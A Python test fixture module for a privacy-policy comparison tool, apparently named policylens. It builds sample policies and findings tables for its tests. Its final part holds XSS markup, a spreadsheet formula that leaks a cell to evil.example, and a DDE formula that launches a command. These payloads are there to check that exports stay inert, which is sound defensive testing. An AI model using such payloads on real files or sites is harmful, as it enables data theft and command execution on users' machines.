"""Small hand-made clauses/findings tables for the compare, report and plotting tests.

A policy is given as lines of text; each non-empty line is one clause ('# ' lines are headings
that open a section). Findings name the exact text they cite, and the builder finds it so that
offsets are real: ``text[start:end] == evidence`` as the extractors guarantee.
"""

from __future__ import annotations

from dataclasses import dataclass, field
from typing import Any

import pandas as pd

from policylens.policy import Policy
from policylens.report import ComparisonReport
from policylens.schema import FINDING_COLUMNS, Finding, empty_frame


@dataclass
class Spec:
    id: str
    lines: list[str]
    name: str = ""
    #: (aspect, value, cited text, extra finding fields)
    findings: list[tuple[str, str, str, dict[str, Any]]] = field(default_factory=list)
    #: words -> category for clauses containing them (first match wins); else "other"
    categories: dict[str, str] = field(default_factory=dict)
    facts: dict[str, Any] = field(default_factory=dict)

    @property
    def text(self) -> str:
        return "\n".join(self.lines) + "\n"


def build(spec: Spec) -> tuple[Policy, pd.DataFrame, pd.DataFrame]:
    text = spec.text
    policy = Policy(id=spec.id, text=text, name=spec.name or spec.id, source=f"{spec.id}.txt")
    clauses, section, offset = [], "", 0
    for line in spec.lines:
        start = text.index(line, offset) if line else offset
        offset = start + len(line)
        if not line.strip():
            continue
        kind = "heading" if line.startswith("# ") else "sentence"
        if kind == "heading":
            section = line[2:]
        category = next((c for w, c in spec.categories.items() if w in line), "other")
        clauses.append(dict(policy=spec.id, clause_id=len(clauses), section=section,
                            depth=1 if section else 0, kind=kind, lead_in="", text=line, start=start,
                            end=start + len(line), category=category, categories=[category],
                            confidence=0.9))
    clause_frame = pd.DataFrame(clauses)
    rows = []
    for aspect, value, cited, extra in spec.findings:
        start = text.index(cited)
        clause = next(c for c in clauses if c["start"] <= start < c["end"])
        finding = Finding(aspect=aspect, value=value, start=start, end=start + len(cited),
                          evidence=cited, rule=f"test.{aspect}", **extra)
        rows.append(dict(finding.as_dict(), policy=spec.id, clause_id=clause["clause_id"],
                         section=clause["section"]))
    findings = pd.DataFrame(rows) if rows else pd.DataFrame(columns=["policy", "aspect", "value"])
    return policy, clause_frame, findings


def make_report(specs: list[Spec]) -> ComparisonReport:
    from policylens.pipeline import policy_row

    built = [build(s) for s in specs]
    rows = []
    for spec, (policy, clauses, findings) in zip(specs, built, strict=True):
        row = policy_row(policy, clauses, findings)
        row.update(spec.facts)
        rows.append(row)
    clauses = pd.concat([c for _, c, _ in built], ignore_index=True)
    frames = [f for _, _, f in built if len(f)]
    findings = pd.concat(frames, ignore_index=True) if frames else empty_frame(FINDING_COLUMNS)
    return ComparisonReport.from_tables(rows, clauses, findings)


def two_policies() -> list[Spec]:
    """Policy 'alpha' grants access and erasure, cites GDPR, keeps logs 30 days and billing
    records 6 years, is for ages 16+; 'beta' grants access only, cites COPPA for children under
    13, keeps data as long as necessary, and transfers data to the US under SCCs."""
    alpha = Spec(
        id="alpha", name="Alpha Ltd",
        lines=["# Your rights",
               "You can ask for a copy of your data and ask us to delete it.",
               "These rights come from the GDPR.",
               "# Retention",
               "Server logs are kept for 30 days.",
               "Billing records are kept for six years after account closure.",
               "# Children",
               "You must be at least 16 years old to use Alpha."],
        findings=[("right", "access", "ask for a copy of your data", {}),
                  ("right", "erasure", "ask us to delete it", {}),
                  ("law", "gdpr", "GDPR", {}),
                  ("retention", "", "30 days", dict(min_days=30.0, max_days=30.0,
                                                    data_category="server logs")),
                  ("retention", "", "six years after account closure",
                   dict(min_days=2190.0, max_days=2190.0, data_category="billing records",
                        condition="after account closure")),
                  ("child_age", "16", "at least 16 years old", dict(number=16.0, role="minimum_age"))],
        categories={"rights": "user_rights", "copy": "user_rights", "kept": "retention",
                    "years old": "children"},
        facts={"min_child_age": 16, "sells_data": False, "last_updated": "2025-01-31"})
    beta = Spec(
        id="beta", name="Beta Inc",
        lines=["# Privacy",
               "You may access your information at any time.",
               "We keep personal data as long as necessary.",
               "We transfer data to the United States under standard contractual clauses.",
               "# Children",
               "Under COPPA we do not collect data from children under 13 without parental consent."],
        findings=[("right", "access", "access your information", {}),
                  ("retention", "", "as long as necessary", dict(condition="as_long_as_necessary")),
                  ("transfer_mechanism", "scc", "standard contractual clauses", {}),
                  ("transfer_destination", "united_states", "the United States", {}),
                  ("law", "coppa", "COPPA", {}),
                  ("child_age", "13", "children under 13", dict(number=13.0, role="legal_reference")),
                  ("child_age", "13", "parental consent", dict(number=13.0, role="parental_consent"))],
        categories={"access": "user_rights", "keep": "retention", "transfer": "international_transfer",
                    "COPPA": "children"},
        facts={"sells_data": True, "breach_notice_hours": 72})
    return [alpha, beta]


#: untrusted text that must stay inert in every export
HOSTILE_LINES = [
    '<script>document.title="pwned"</script>',
    '<img src=x onerror="document.title=\'pwned\'">',
    '=HYPERLINK("http://evil.example/?leak="&A1,"click me")',
    "+1",
    "-2",
    "@SUM(1+1)*cmd|' /C calc'!A0",
]


def hostile_policy() -> Spec:
    """A policy whose name, headings, clauses, evidence and data categories carry markup and
    formula-like text."""
    return Spec(
        id="hostile", name='<img src=x onerror="document.title=\'pwned\'">',
        lines=["# <script>document.title='pwned'</script>",
               *HOSTILE_LINES,
               "# =HYPERLINK(\"http://evil.example\")",
               "You have the right to access your data <script>alert(1)</script>.",
               "=cmd data is kept for 30 days."],
        findings=[("right", "access", "right to access your data <script>alert(1)</script>", {}),
                  ("retention", "", "=cmd data is kept for 30 days",
                   dict(min_days=30.0, max_days=30.0, data_category="=HYPERLINK(\"http://x\")")),
                  ("law", "gdpr", "=HYPERLINK(\"http://evil.example/?leak=\"&A1,\"click me\")", {})],
        facts={"contact_emails": ["@SUM(1+1)"], "third_party_services": ["-2", "+1"]})
